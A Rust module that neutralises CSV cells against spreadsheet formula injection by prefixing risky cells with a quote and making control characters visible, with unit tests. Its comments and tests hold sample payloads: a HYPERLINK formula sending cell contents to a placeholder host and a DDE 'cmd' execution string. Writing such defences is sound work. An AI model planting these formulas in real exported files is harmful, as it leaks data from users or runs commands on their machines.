//! Cells of the CSV files doclist writes, made safe for spreadsheet programs.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
//! and its kin as a formula (`=HYPERLINK(…)`, `+cmd|…`). Such a cell gets a leading `'`,
//! which the spreadsheet shows as plain text (the OWASP advice on CSV injection).
//!
//! A control character a sheet carried in (a NUL byte, an escape) would make the file
//! binary to the programs that read it: each is written as its visible picture (`␀`,
//! `␛`), or `�` for those that have none. Tabs and line breaks stay.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell no spreadsheet evaluates, with no control character but tabs and
/// line breaks.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let text = visible(text);
    if text.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// Whether `c` is a control character a text file should not hold.
fn hidden(c: char) -> bool {
    c.is_control() && !matches!(c, '\t' | '\n' | '\r')
}

/// `text` with each control character (but tabs and line breaks) shown as its picture:
/// U+2400 to U+241F for the C0 controls, U+2421 for DEL, `�` for the rest.
fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(hidden) {
        return Cow::Borrowed(text);
    }
    let picture = |c: char| match u32::from(c) {
        n @ 0..=0x1F => char::from_u32(0x2400 + n).unwrap_or('\u{fffd}'),
        0x7F => '\u{2421}',
        _ => '\u{fffd}',
    };
    Cow::Owned(
        text.chars()
            .map(|c| if hidden(c) { picture(c) } else { c })
            .collect(),
    )
}

/// One CSV line of `cells`, each neutralised, ending in a line break.
pub fn line<I, S>(cells: I) -> Vec<u8>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut out = CsvOut::headless();
    out.record(cells);
    out.into_bytes()
}

/// The UTF-8 byte-order mark, which makes Excel read a CSV file as UTF-8.
pub const BOM: [u8; 3] = [0xEF, 0xBB, 0xBF];

/// A CSV file in memory, UTF-8 with a BOM (so that Excel reads it), every cell neutralised.
pub struct CsvOut {
    w: csv::Writer<Vec<u8>>,
}

impl Default for CsvOut {
    fn default() -> Self {
        CsvOut::new()
    }
}

impl CsvOut {
    /// An empty file (just the BOM).
    pub fn new() -> Self {
        CsvOut {
            w: csv::Writer::from_writer(BOM.to_vec()),
        }
    }

    /// Lines without the BOM, to go after others.
    fn headless() -> Self {
        CsvOut {
            w: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Adds a line.
    pub fn record<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.w.write_record(&cells).expect("writing to memory");
    }

    /// The file's bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.w.into_inner().expect("writing to memory")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted_and_the_rest_kept() {
        for s in [
            "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(s), format!("'{s}"));
        }
        for s in ["张三", "", "3", "2026-01-01", "a=b", " =1"] {
            assert_eq!(neutralise(s), s);
        }
    }

    #[test]
    fn control_characters_are_shown_not_written() {
        assert_eq!(neutralise("张\0三\u{1b}"), "张\u{2400}三\u{241b}");
        assert_eq!(neutralise("a\u{7f}b\u{85}"), "a\u{2421}b\u{fffd}");
        assert_eq!(neutralise("一\t二\n三"), "一\t二\n三");
        assert_eq!(neutralise("\u{7}=1"), "\u{2407}=1");
        assert_eq!(line(["1", "\0"]), "1,\u{2400}\n".as_bytes());
    }

    #[test]
    fn every_cell_of_a_file_is_neutralised() {
        let mut out = CsvOut::new();
        out.record(["row", "name"]);
        out.record(["2", "=1+1"]);
        let text = String::from_utf8(out.into_bytes()).unwrap();
        assert_eq!(text, "\u{feff}row,name\n2,'=1+1\n");
    }
}
